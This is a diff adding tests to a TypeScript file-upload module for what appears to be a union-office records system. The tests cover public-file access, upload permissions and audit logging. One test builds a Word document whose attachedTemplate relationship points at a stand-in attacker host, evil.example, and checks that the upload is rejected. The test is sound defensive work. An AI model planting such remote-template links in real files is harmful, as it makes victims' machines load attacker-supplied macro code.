@@ -13,6 +13,7 @@ import { freshDatabase } from '#kernel/testing'
 import { isRefusal } from '#kernel/refusal'
 import { fileRoutes, filesKnown, filesOf, keepFile, keepFilesUnder, linkFile } from './index.ts'
 import { jpeg } from './image-probe.ts'
+import { zipOf } from './zip-probe.ts'
 
 const { owner, login } = await freshDatabase()
 keepFilesUnder(await mkdtemp(join(tmpdir(), 'files-')))
@@ -26,7 +27,7 @@ const day = '2026-04-07'
 async function somebody(
   name: string,
   way: Reach['way'],
-  stands: { place: number; node: number | null; lo?: number; hi?: number },
+  stands: { place: number; node: number | null; lo?: number; hi?: number; sees?: number },
 ): Promise<Caller> {
   const [account, post, organisation] = [randomUUID(), randomUUID(), randomUUID()]
   await owner.query(`insert into account (id, login, name, organisation_name, place) values ($1, $2, $3, $3, $4)`, [
@@ -47,6 +48,7 @@ async function somebody(
     organisation,
     today: day,
     ...bounds,
+    ...(stands.sees !== undefined && { sees: stands.sees }),
     ...(way === 'self' && { person: randomUUID() }),
   }
   return {
@@ -64,6 +66,13 @@ async function somebody(
 const unit = await somebody('清河县第一机械厂工会', 'unit', { place: 110, node: 5000, lo: 5000, hi: 5099 })
 const county = await somebody('清河县总工会', 'division', { place: 100, node: 4000, lo: 100, hi: 199 })
 const otherCounty = await somebody('云中县总工会', 'division', { place: 200, node: 4100, lo: 200, hi: 299 })
+const administrator = await somebody('清河县系统管理员', 'division', {
+  place: 100,
+  node: 4000,
+  lo: 100,
+  hi: 199,
+  sees: 0,
+})
 const police = await somebody('清河县公安局', 'party', { place: 100, node: null })
 const worker = await somebody('王小虎', 'self', { place: 110, node: null })
 const visitor = {
@@ -76,7 +85,7 @@ const visitor = {
   today: day,
   transaction: <T>(work: (tx: Transaction) => Promise<T>) => transaction(login, { way: 'public', today: day }, work),
 } as unknown as Caller
-const callers: Record<string, Caller> = { unit, county, otherCounty, police, worker }
+const callers: Record<string, Caller> = { unit, county, otherCounty, administrator, police, worker }
 
 let app: FastifyInstance
 beforeAll(async () => {
@@ -175,11 +184,45 @@ test('the most sensitive class asks for a purpose, and every opening is on recor
   ])
 })
 
-test('what is 公开 is anybody’s', async () => {
+test('what is 公开 is fetched by whoever logs in, and by strangers only once it hangs on a published page', async () => {
   const { body } = await upload('county', '公示.pdf', Buffer.from('%PDF-1.7 notice'), { class: '公开' })
+  expect((await get('otherCounty', `/public/files/${body.id}`)).body).toBe('%PDF-1.7 notice')
+  expect((await get('', `/public/files/${body.id}`)).statusCode).toBe(404)
+  await county.transaction(tx => linkFile(tx, body.id, 'published', randomUUID()))
   expect((await get('', `/public/files/${body.id}`)).body).toBe('%PDF-1.7 notice')
   const inside = await upload('county', '底稿.pdf', Buffer.from('%PDF-1.7 draft'))
   expect((await get('', `/public/files/${inside.body.id}`)).statusCode).toBe(404)
+})
+
+test('a form whose template lies on another machine is refused at the door', async () => {
+  const rels =
+    '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+  const form = zipOf({
+    '[Content_Types].xml': '<Types/>',
+    'word/document.xml': '<a/>',
+    'word/_rels/settings.xml.rels': rels,
+  })
+  expect(await upload('county', '表样.docx', form)).toMatchObject({ status: 415, body: { code: 'files.external' } })
+})
+
+test('only an office puts in what is 公开, and that it did is on record', async () => {
+  for (const who of ['unit', 'worker', 'police'])
+    expect(await upload(who, '广告.pdf', Buffer.from('%PDF-1.7 advert'), { class: '公开' })).toMatchObject({
+      status: 403,
+      body: { code: 'files.public' },
+    })
+  const { body } = await upload('county', '表样.pdf', Buffer.from('%PDF-1.7 form'), { class: '公开' })
+  const { rows } = await owner.query<{ what: string }>(`select what from change_log where subject = $1`, [body.id])
+  expect(rows).toEqual([{ what: '上传公开文件' }])
+})
+
+test('a post that sees no field group fetches nothing of its territory, and still what it handed in itself', async () => {
+  const { body } = await upload('unit', '推荐表.pdf', Buffer.from('%PDF-1.7 nominee'))
+  expect((await get('county', `/files/${body.id}`)).statusCode).toBe(200)
+  expect((await get('administrator', `/files/${body.id}`)).statusCode).toBe(404)
+  expect(await administrator.transaction(tx => filesKnown(tx, [body.id]))).toEqual([])
+  const own = await upload('administrator', '账号.csv', Buffer.from('姓名,登录名\n王小虎,wang\n'))
+  expect((await get('administrator', `/files/${own.body.id}`)).statusCode).toBe(200)
 })
 
 test('a visitor’s evidence is kept for the office and never read back by visitors', async () => {
